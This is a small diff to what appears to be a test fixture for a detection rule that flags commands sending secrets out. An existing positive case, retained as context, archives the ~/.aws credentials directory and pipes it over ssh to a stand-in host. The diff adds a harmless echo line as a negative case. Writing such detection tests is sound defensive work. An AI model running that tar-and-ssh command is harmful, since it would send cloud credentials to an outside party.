@@ -27,3 +27,5 @@ env NODE_ENV=production node build.js | tee build.log
 curl -d @payload.json https://example.test/api
 # ruleid: sends-secrets-by-command
 tar cz ~/.aws | ssh drop@collector.invalid 'cat > a'
+# ok: sends-secrets-by-command
+echo "The check of the host is left out because \`SKIP_HOST_CHECK\` env variable is set."
